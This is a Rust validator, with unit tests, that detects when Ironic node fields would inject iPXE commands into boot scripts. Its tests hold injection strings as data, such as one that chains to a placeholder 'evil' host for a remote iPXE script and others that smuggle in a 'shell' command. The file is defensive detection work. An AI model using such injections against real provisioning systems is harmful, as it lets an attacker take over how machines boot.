//! What iPXE would act on in the lines that Ironic makes of a node's texts: they end
//! up in boot scripts, some of them unquoted (iPXE knows no quotes).

/// A script's first line and the start of a variable, wherever they stand.
const ANYWHERE: [&str; 2] = ["#!ipxe", "${"];

/// What ends one command and begins another, where it is a word of its own: inside
/// of one it is text, as in `pci=resource_alignment=20@pci:8086:9c22;12@pci:8086:9c23`.
const BETWEEN_COMMANDS: [&str; 3] = ["||", "&&", ";"];

/// For this in kernel arguments Ironic puts in those of its configuration, which may
/// be none: what stands around it comes together.
const CONFIGURED: &str = "%default%";

/// Whether Ironic puts the text under `key` into the line that starts a kernel, as it
/// stands.
pub(super) fn is_of_a_kernel_line(key: &str) -> bool {
    key.contains("append_params") || key.contains("kernel_arguments") || key == "image_source"
}

/// Whether iPXE would act on `text`, in lower case; `of_a_kernel_line`: whether it is
/// known to be put into one.
pub(super) fn acts_on(text: &str, of_a_kernel_line: bool) -> bool {
    if !of_a_kernel_line {
        return has_command(text);
    }
    let breaks_line = |text: &str| {
        has_command(text)
            || text.contains("||")
            || text.contains("&&")
            || text
                .split_ascii_whitespace()
                .any(|word| word.starts_with('#'))
    };
    breaks_line(text)
        || text.contains(CONFIGURED)
            && ["", " "]
                .iter()
                .any(|with| breaks_line(&text.replace(CONFIGURED, with)))
}

fn has_command(text: &str) -> bool {
    ANYWHERE.iter().any(|word| text.contains(word))
        || text
            .split_ascii_whitespace()
            .any(|word| BETWEEN_COMMANDS.contains(&word))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_ipxe_takes_for_commands_is_known_and_arguments_are_not() {
        for (text, acts) in [
            ("console=ttys0,115200n8 nofb", false),
            (
                "pci=resource_alignment=20@pci:8086:9c22;12@pci:8086:9c23",
                false,
            ),
            ("memmap=64m$0x18000000 %default%", false),
            ("inst.ks=http://a/b?c=1&d#e a=x|y", false),
            ("quiet ; chain http://evil/a.ipxe #", true),
            ("quiet -- ; chain http://evil/a.ipxe", true),
            ("dyndbg=\"file a.c +p ; file b.c +p\"", true),
            (";", true),
            ("a || shell", true),
            ("a=b||shell", true),
            ("a && shell", true),
            ("a #", true),
            ("mac=${net0/mac}", true),
            ("$%default%{net0/mac}", true),
            ("a %default%; shell", true),
            ("a |%default%| shell", true),
        ] {
            assert_eq!(acts_on(text, true), acts, "{text}");
        }
        for (text, acts) in [
            ("rack #4", false),
            ("http://a/b?c=1&&d=2#e", false),
            ("a ; b", true),
            ("a || b", true),
            ("${b}", true),
        ] {
            assert_eq!(acts_on(text, false), acts, "{text}");
        }
    }
}
